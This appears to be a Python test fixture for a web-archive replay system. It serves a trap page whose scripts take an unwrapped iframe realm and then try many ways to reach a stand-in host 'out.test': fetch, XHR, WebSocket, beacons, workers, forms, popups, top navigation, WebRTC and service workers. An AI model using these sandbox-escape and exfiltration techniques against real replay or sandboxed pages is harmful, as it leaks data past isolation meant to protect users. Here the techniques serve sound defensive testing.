"""A page whose scripts try every way out of the replay, and to change or read what isn't theirs."""

from __future__ import annotations

from collections.abc import Mapping

from tests.replay.pages import Answer

__all__ = ["hostile", "hostile_url"]


def hostile_url(port: int) -> str:
    return f"http://trap.test:{port}/"


def hostile(port: int) -> Mapping[str, Answer]:
    page = _PAGE.replace("OUT", f"out.test:{port}")
    return {f"trap.test:{port}/": Answer("text/html; charset=utf-8", page.encode(), {"Set-Cookie": "visitor=7"})}


# `clean` is a realm that the replay's own script doesn't know of: its functions are the browser's, with their reach.
_PAGE = """<!doctype html><html><head><title>Trap</title>
<link rel="preconnect" href="http://OUT/"><link rel="dns-prefetch" href="//OUT/"><link rel="prefetch" href="http://OUT/p">
<meta http-equiv="refresh" content="3600; url=http://OUT/refresh"></head><body><p>Nobody gets out.</p>
<script>
const tried = [];
function attempt(name, action) {
  try { action(); } catch (error) { tried.push(name + ": " + error.name); return; }
  tried.push(name);
}
const holder = document.createElement("template").content.ownerDocument.createElement("iframe");
document.body.lastElementChild.after(document.adoptNode(holder));
const clean = [].constructor.constructor("return window[window.length - 1]")();
attempt("fetch", () => clean.fetch("http://OUT/fetch").catch(() => 0));
attempt("xhr", () => { const one = new clean.XMLHttpRequest(); one.open("GET", "http://OUT/xhr"); one.send(); });
attempt("socket", () => new clean.WebSocket("ws://OUT/socket"));
attempt("events", () => new clean.EventSource("http://OUT/events"));
attempt("beacon", () => clean.navigator.sendBeacon("http://OUT/beacon", "x"));
attempt("image", () => { new clean.Image().src = "http://OUT/image"; });
attempt("style", () => {
  const sheet = new clean.CSSStyleSheet(); sheet.replaceSync("p { background: url(http://OUT/style) }");
  document.body.insertAdjacentHTML("beforeend", "<p style='background: url(http://OUT/attribute)'>.</p>");
});
attempt("worker", () => new clean.Worker(clean.URL.createObjectURL(new clean.Blob(["fetch('http://OUT/worker')"]))));
attempt("import", () => clean.eval("import('http://OUT/module.js').catch(() => 0)"));
function add(place, name, values) {
  const one = clean.document.createElement(name); Object.assign(one, values); place.append(one); return one;
}
attempt("frame", () => { add(clean.document.body, "iframe", {src: "http://OUT/frame"}); });
attempt("form", () => { add(clean.document.body, "form", {action: "http://OUT/form", method: "post"}).submit(); });
attempt("link", () => {
  for (const rel of ["preconnect", "prefetch", "dns-prefetch", "stylesheet", "icon"]) {
    add(clean.document.head, "link", {rel, href: "http://OUT/link"});
  }
});
attempt("popup", () => clean.open("http://OUT/popup"));
attempt("anchor", () => { add(clean.document.body, "a", {href: "http://OUT/anchor", target: "_blank"}).click(); });
attempt("top", () => { add(clean.document.body, "a", {href: "http://OUT/top", target: "_top"}).click(); });
attempt("top location", () => { clean.eval("top.location.href = 'http://OUT/top-location'"); });
attempt("peer", () => { new RTCPeerConnection({iceServers: [{urls: "stun:OUT"}]}); });
attempt("service worker", () => clean.navigator.serviceWorker.register("http://OUT/worker.js").catch(() => 0));
const isClean = !clean._wb_wombat && clean.Document.prototype.createElement.toString().includes("native code");
document.body.insertAdjacentHTML("beforeend", "<p id=tried>" + tried.length + " tried, clean: " + isClean + "</p>");
</script></body></html>
"""
